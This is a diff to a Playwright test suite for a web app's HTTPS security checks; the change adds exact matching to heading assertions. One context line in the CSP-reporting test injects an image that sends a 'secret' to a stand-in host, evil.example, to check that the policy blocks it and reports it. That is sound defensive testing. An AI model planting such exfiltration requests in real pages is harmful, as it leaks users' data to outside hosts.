@@ -13,7 +13,7 @@ test.describe("by https", { tag: "@https" }, () => {
     admin,
   }) => {
     await signIn(page, await admin.createUser(), "/security");
-    await expect(page.getByRole("heading", { name: "Second factors" })).toBeVisible();
+    await expect(page.getByRole("heading", { name: "Second factors", exact: true })).toBeVisible();
     expect((await sessionCookies(context)).length).toBeGreaterThan(0);
     expect(await readSession(context)).toHaveProperty("refresh_token");
     const ours = (await context.cookies()).filter(({ name }) => name.includes("sb-"));
@@ -51,7 +51,7 @@ test.describe("by https", { tag: "@https" }, () => {
     await signIn(page, await admin.createUser(), "/data/flights");
     await expect(page.getByRole("gridcell").first()).not.toBeEmpty();
     await page.getByRole("link", { name: "Security" }).click();
-    await expect(page.getByRole("heading", { name: "Second factors" })).toBeVisible();
+    await expect(page.getByRole("heading", { name: "Second factors", exact: true })).toBeVisible();
     const origins = new Set(asked.map((address) => new URL(address).origin));
     const own = [
       product.hostUrl,
@@ -78,7 +78,7 @@ test.describe("by https", { tag: "@https" }, () => {
     product.writeConfig({ violationReportUrl: "/violations" });
     const answer = await page.goto("/system?secret");
     expect(answer?.headers()["reporting-endpoints"]).toBe('csp="/violations"');
-    await expect(page.getByRole("heading", { name: "System" })).toBeVisible();
+    await expect(page.getByRole("heading", { name: "System", exact: true })).toBeVisible();
     await page.evaluate(() => {
       document.body.append(Object.assign(new Image(), { src: "https://evil.example/loot/secret?secret" }));
     });
